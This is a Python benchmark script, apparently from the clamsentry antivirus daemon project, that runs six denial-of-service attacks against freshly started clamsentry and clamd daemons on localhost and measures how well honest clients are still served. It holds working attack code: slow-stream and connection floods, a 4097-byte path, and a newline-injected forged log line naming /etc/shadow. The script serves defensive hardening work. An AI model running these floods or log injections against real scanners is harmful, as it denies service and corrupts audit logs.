#!/usr/bin/env python3
"""The six denial-of-service attacks of issue 13, each against a fresh daemon
with honest clients alongside, for clamsentry builds and clamd 1.4.6 side by
side. Prints, per attack and daemon, the honest clients' success rate, the
log lines written and whether a worker was restarted.

    python3 bench/dos/measure.py --clamsentry after=target/release/clamsentry \
        [--clamsentry before=/path/to/old/clamsentry] [--clamd] [--seconds 40]

Run as root (clamsentry's worker becomes "nobody", clamd runs as root as
Debian's unit starts it). Every daemon runs on its own defaults; only
sockets, database and log file are set. Honest clients:

- unix:  INSTREAM of the EICAR string over the Unix socket (an MTA, clamdscan)
- tcp:   INSTREAM over TCP from 127.0.0.100 (a web upload service)
- same:  INSTREAM over TCP from the attacker's own address, where the attack
         has one (a neighbour behind the same NAT)

An honest request succeeds when the exact FOUND reply arrives within 10 s.
This is a measurement, not a test: cargo test has tests/dos.rs.
"""

import argparse
import json
import os
import re
import resource
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time

HONEST_TIMEOUT = 10.0
HONEST_PAUSE = 0.25
OTHER = "127.0.0.100"


def eicar():
    # Assembled, so that no file in the repository holds the string whole.
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def instream(data, chunk=4096):
    out = b"zINSTREAM\0"
    for i in range(0, len(data), chunk):
        part = data[i : i + chunk]
        out += struct.pack("!L", len(part)) + part
    return out + struct.pack("!L", 0)


# ---------------------------------------------------------------- daemons


class Daemon:
    def __init__(self, kind, binary, db, workdir):
        self.kind, self.binary, self.db = kind, binary, db
        self.dir = tempfile.mkdtemp(prefix=f"dos-{kind}-", dir=workdir)
        os.chmod(self.dir, 0o755)
        self.unix = os.path.join(self.dir, "sock")
        self.port = free_port()
        self.log = os.path.join(self.dir, "log")
        self.proc = None

    def start(self):
        logf = open(self.log, "wb")
        if self.kind == "clamd":
            conf = os.path.join(self.dir, "clamd.conf")
            with open(conf, "w") as f:
                f.write(
                    f"Foreground yes\nLocalSocket {self.unix}\nLocalSocketMode 666\n"
                    f"TCPSocket {self.port}\nTCPAddr 127.0.0.1\nDatabaseDirectory {self.db}\n"
                    f"PidFile {self.dir}/clamd.pid\nLogFile {self.log}\nLogTime yes\n"
                )
            cmd = ["clamd", "-c", conf]
            self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        else:
            conf = os.path.join(self.dir, "clamsentry.toml")
            with open(conf, "w") as f:
                f.write(
                    f'[database]\ndirectory = "{self.db}"\n'
                    f'[listen]\nunix = "{self.unix}"\nunix-mode = "0666"\ntcp = ["127.0.0.1:{self.port}"]\n'
                    f'[sandbox]\nuser = "nobody"\n'
                )
            cmd = [self.binary, "--config", conf]
            self.proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=logf)
        deadline = time.time() + 120
        while time.time() < deadline:
            if self.proc.poll() is not None:
                raise SystemExit(f"{self.kind} exited at start; see {self.log}")
            try:
                if ask_unix(self.unix, b"zPING\0", 2) == b"PONG\0" and ask_tcp(OTHER, self.port, b"zPING\0", 2) == b"PONG\0":
                    return
            except OSError:
                pass
            time.sleep(0.2)
        raise SystemExit(f"{self.kind} did not answer PING within 120 s")

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(20)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def log_lines(self):
        try:
            with open(self.log, "rb") as f:
                return f.read().split(b"\n")
        except OSError:
            return []


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


# ---------------------------------------------------------------- clients


def read_reply(s, deadline):
    out = b""
    while not out.endswith(b"\0"):
        left = deadline - time.time()
        if left <= 0:
            raise TimeoutError
        s.settimeout(left)
        b = s.recv(4096)
        if not b:
            break
        out += b
    return out


def ask_unix(path, data, timeout):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        deadline = time.time() + timeout
        s.settimeout(timeout)
        s.connect(path)
        s.sendall(data)
        return read_reply(s, deadline)
    finally:
        s.close()


def ask_tcp(src, port, data, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        deadline = time.time() + timeout
        s.settimeout(timeout)
        s.bind((src, 0))
        s.connect(("127.0.0.1", port))
        s.sendall(data)
        return read_reply(s, deadline)
    finally:
        s.close()


class Honest:
    """One honest client: the same INSTREAM again and again until stopped."""

    def __init__(self, name, ask):
        self.name, self.ask = name, ask
        self.ok = self.total = 0
        self.times = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self.run, daemon=True)

    def run(self):
        request = instream(eicar())
        while not self.stop.is_set():
            self.total += 1
            started = time.time()
            try:
                reply = self.ask(request, HONEST_TIMEOUT)
                self.times.append(time.time() - started)
                if reply.startswith(b"stream: ") and reply.endswith(b" FOUND\0"):
                    self.ok += 1
            except (OSError, TimeoutError):
                pass
            self.stop.wait(HONEST_PAUSE)


# ---------------------------------------------------------------- attacks
#
# Each attack is a function (daemon, stop event) run in its own thread for
# the measurement window, and returns a short text of what it did.


def keep_open(n, make, stop, feed=None, feed_every=20.0):
    """Holds n connections made by make(i), reopening those the daemon
    closes; feed(sock) every feed_every seconds (a trickle)."""
    socks = [None] * n
    opened = 0
    last_feed = time.time()
    while not stop.is_set():
        for i in range(n):
            s = socks[i]
            if s is not None:
                try:
                    s.setblocking(False)
                    if s.recv(65536) == b"":
                        raise OSError
                except BlockingIOError:
                    continue
                except OSError:
                    s.close()
                    socks[i] = None
            try:
                socks[i] = make(i)
                opened += 1
            except OSError:
                socks[i] = None
            if stop.is_set():
                break
        if feed and time.time() - last_feed >= feed_every:
            last_feed = time.time()
            for s in socks:
                if s is not None:
                    try:
                        feed(s)
                    except OSError:
                        pass
        stop.wait(0.5)
    for s in socks:
        if s is not None:
            s.close()
    return f"{opened} connections opened"


def tcp_from(src, port, first=b""):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind((src, 0))
    s.settimeout(2)
    s.connect(("127.0.0.1", port))
    if first:
        s.sendall(first)
    return s


def attack_long_path(d, stop):
    """1. SCAN with a 4097-byte path, again and again (as a local user)."""
    sent = answered = 0
    request = b"zSCAN /" + b"a" * 4096 + b"\0"
    while not stop.is_set():
        sent += 1
        try:
            if ask_unix(d.unix, request, 5).endswith(b"ERROR\0"):
                answered += 1
        except (OSError, TimeoutError):
            pass
        stop.wait(0.05)
    return f"{sent} sent, {answered} answered with an ERROR"


def attack_slow_streams(d, stop):
    """2. 11 TCP connections announce a chunk of 256 MiB / 11 each (so that
    together they claim all of clamsentry's default limits.stream-memory
    when it is charged on announced sizes), then trickle a byte every 20 s
    (7 bytes over 150 s in the issue)."""
    header = b"zINSTREAM\0" + struct.pack("!L", (256 << 20) // 11)
    return keep_open(11, lambda i: tcp_from("127.0.0.1", d.port, header), stop, lambda s: s.send(b"x"))


def attack_loopback_flood(d, stop):
    """3. 1024 TCP connections from 127.0.0.1-127.0.0.17, each trickling
    one byte of a command every 20 s."""
    return keep_open(
        1024,
        lambda i: tcp_from(f"127.0.0.{1 + i % 17}", d.port, b"z"),
        stop,
        lambda s: s.send(b"P"),
    )


def attack_refusal_flood(d, stop):
    """4. Refused commands inside IDSESSION (SCAN over TCP, which
    clamsentry refuses there; clamd scans the file), 100,000 in all,
    reconnecting when the daemon ends the session; each session starts
    with a SCAN whose path carries a newline and a forged log line."""
    sent = 0
    forged = b"zSCAN /tmp/x\nclamd[1]: /etc/shadow: Forged.Log.Line FOUND\0"
    burst = b"zSCAN /etc/shadow\0" * 1000
    while not stop.is_set() and sent < 100_000:
        s = None
        try:
            s = tcp_from("127.0.0.1", d.port, b"zIDSESSION\0" + forged)
            drain = threading.Thread(target=lambda: _drain(s), daemon=True)
            drain.start()
            while not stop.is_set() and sent < 100_000:
                s.settimeout(5)
                s.sendall(burst)
                sent += 1000
        except OSError:
            pass
        finally:
            if s is not None:
                s.close()
    return f"{sent} refused commands sent"


def _drain(s):
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass


def attack_no_reading(d, stop, files):
    """5. 16 local clients each ask for a CONTSCAN of a directory of 2,000
    infected files under a long name (about 600 KB of replies, more than
    a socket buffer holds) and never read a byte; a closed one is opened
    again."""
    def make(i):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect(d.unix)
        s.sendall(f"zCONTSCAN {files}\0".encode())
        return s

    return keep_open(16, make, stop)


def attack_idle_same_address(d, stop):
    """6. 200 idle TCP connections from 127.0.0.9."""
    return keep_open(200, lambda i: tcp_from("127.0.0.9", d.port), stop)


ATTACKS = [
    ("1 long path", attack_long_path, None),
    ("2 slow streams", attack_slow_streams, "127.0.0.1"),
    ("3 loopback flood", attack_loopback_flood, "127.0.0.1"),
    ("4 refusal flood", attack_refusal_flood, "127.0.0.1"),
    ("5 clients not reading", attack_no_reading, None),
    ("6 idle, same address", attack_idle_same_address, "127.0.0.9"),
]

RESTART = re.compile(rb"(worker|engine holder).*(died|crash|killed|exited|restart)", re.I)


def measure(kind, binary, db, files, attack, fn, same, seconds, workdir, keep):
    d = Daemon(kind, binary, db, workdir)
    d.start()
    lines_before = len(d.log_lines())
    stop = threading.Event()
    result = {}
    args = (d, stop, files) if fn is attack_no_reading else (d, stop)
    t = threading.Thread(target=lambda: result.update(what=fn(*args)), daemon=True)
    t.start()
    time.sleep(3)  # let the attack set in
    honest = [
        Honest("unix", lambda req, to: ask_unix(d.unix, req, to)),
        Honest("tcp", lambda req, to: ask_tcp(OTHER, d.port, req, to)),
    ]
    if same:
        honest.append(Honest("same", lambda req, to: ask_tcp(same, d.port, req, to)))
    started = time.time()
    for h in honest:
        h.thread.start()
    time.sleep(seconds)
    for h in honest:
        h.stop.set()
    for h in honest:
        h.thread.join(HONEST_TIMEOUT + 5)
    minutes = (time.time() - started) / 60
    stop.set()
    t.join(60)
    alive = d.proc.poll() is None
    lines = [l for l in d.log_lines()[lines_before:] if l]
    d.stop()
    if keep:
        shutil.copy(d.log, os.path.join(keep, f"{attack.split()[0]}-{kind}.log"))
    # The honest clients' own FOUND lines are logged by every daemon (as
    # clamd does); what the attack adds is the rest.
    found = [l for l in lines if l.rstrip().endswith(b" FOUND") or b'scan_result="found"' in l]
    row = {
        "attack": attack,
        "daemon": kind,
        "honest": {h.name: [h.ok, h.total] for h in honest},
        "honest_ms_median_max": {
            h.name: [round(1000 * sorted(h.times)[len(h.times) // 2]), round(1000 * max(h.times))] if h.times else None
            for h in honest
        },
        "attacker": result.get("what", "?"),
        "log_lines_per_minute": round(len(lines) / minutes),
        "other_log_lines_per_minute": round((len(lines) - len(found)) / minutes),
        "log_bytes": sum(len(l) + 1 for l in lines),
        "forged_line_in_log": any(l.startswith(b"clamd[1]: /etc/shadow") for l in lines),
        "worker_restarts": len([l for l in lines if RESTART.search(l)]) if kind != "clamd" else None,
        "daemon_alive": alive,
    }
    shutil.rmtree(d.dir, ignore_errors=True)
    return row


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--clamsentry", action="append", default=[], metavar="NAME=BINARY")
    p.add_argument("--clamd", action="store_true", help="also measure clamd 1.4.6")
    p.add_argument("--db", default="demo/db")
    p.add_argument("--seconds", type=float, default=40)
    p.add_argument("--only", help="attack numbers to run, e.g. 1,3")
    p.add_argument("--json", help="append one JSON object per row to this file")
    p.add_argument("--keep-logs", metavar="DIR", help="copy each daemon's log here")
    a = p.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("run as root: the daemons drop to nobody and the attack needs 1,300 descriptors")
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    workdir = tempfile.mkdtemp(prefix="dos-measure-")
    os.chmod(workdir, 0o755)
    db = os.path.join(workdir, "db")
    shutil.copytree(a.db, db)
    files = os.path.join(workdir, "infected-" + "x" * 200)
    os.mkdir(files)
    for i in range(2000):
        with open(os.path.join(files, f"eicar-{i:04}.txt"), "wb") as f:
            f.write(eicar())
    for root, dirs, names in os.walk(workdir):
        for n in dirs:
            os.chmod(os.path.join(root, n), 0o755)
        for n in names:
            os.chmod(os.path.join(root, n), 0o644)
    daemons = [(n, b) for n, b in (x.split("=", 1) for x in a.clamsentry)]
    if a.clamd:
        daemons.append(("clamd", None))
    only = set(a.only.split(",")) if a.only else None
    if a.keep_logs:
        os.makedirs(a.keep_logs, exist_ok=True)
    for attack, fn, same in ATTACKS:
        if only and attack.split()[0] not in only:
            continue
        for kind, binary in daemons:
            row = measure(kind, binary, db, files, attack, fn, same, a.seconds, workdir, a.keep_logs)
            honest = "  ".join(f"{k} {ok}/{n} ({100 * ok / max(n, 1):.0f}%)" for k, (ok, n) in row["honest"].items())
            ms = row["honest_ms_median_max"]
            honest += "  ms " + ",".join(f"{v[0]}/{v[1]}" if v else "-" for v in ms.values())
            print(
                f"{attack:24} {kind:8} {honest:80} log {row['log_lines_per_minute']}/min "
                f"(not FOUND {row['other_log_lines_per_minute']}/min) "
                f"forged={row['forged_line_in_log']} restarts={row['worker_restarts']} alive={row['daemon_alive']} | {row['attacker']}",
                flush=True,
            )
            if a.json:
                with open(a.json, "a") as f:
                    f.write(json.dumps(row) + "\n")
    shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
